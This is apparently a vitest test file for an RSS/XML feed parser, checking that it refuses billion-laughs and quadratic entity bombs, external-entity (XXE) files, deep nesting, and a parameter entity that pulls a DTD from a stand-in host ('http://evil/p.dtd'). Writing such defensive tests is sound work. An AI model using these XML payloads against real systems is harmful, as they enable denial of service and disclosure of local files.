import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseFeedBytes, parseFeedText } from '../../supabase/functions/_shared/parse/parse-feed.ts';
import { FIXTURES_DIR } from './helpers/paths.ts';

const fixture = (name: string) => readFileSync(join(FIXTURES_DIR, name));

describe('hostile XML', () => {
  it('refuses the billion-laughs bomb without expanding it', () => {
    const started = performance.now();
    expect(() => parseFeedBytes(fixture('billion-laughs.xml'))).toThrow(/entity declarations are refused/);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('refuses a quadratic blowup (one big entity referenced many times)', () => {
    expect(() => parseFeedBytes(fixture('quadratic-blowup.xml'))).toThrow(/entity declarations are refused/);
  });

  it('refuses an external entity (XXE) and never reads the file', () => {
    let message = '';
    try {
      parseFeedBytes(fixture('xxe.xml'));
    } catch (error) {
      message = error instanceof Error ? error.message : String(error);
    }
    expect(message).toMatch(/entit/i);
    expect(message).not.toContain('root:');
  });

  it('refuses parameter entities and entities whose values reference others', () => {
    const doc = (decl: string) => `<?xml version="1.0"?><!DOCTYPE rss [${decl}]><rss><channel><item><title>&x;</title><link>http://a/</link></item></channel></rss>`;
    expect(() => parseFeedText(doc('<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;'))).toThrow();
    // An entity whose value contains "&" is never registered, so &x; stays unexpanded text.
    const feed = parseFeedText(doc('<!ENTITY x "&#38;#38;y">'));
    expect(feed.items[0]?.title).toBe('&x;');
  });

  it('accepts an ordinary DOCTYPE without entity declarations (RSS 0.91)', () => {
    const feed = parseFeedText(
      '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>ok</title></channel></rss>',
    );
    expect(feed.title).toBe('ok');
  });

  it('refuses absurd nesting depth instead of recursing without end', () => {
    const deep = `<rss><channel>${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}</channel></rss>`;
    expect(() => parseFeedText(deep)).toThrow(/malformed XML/);
  });
});
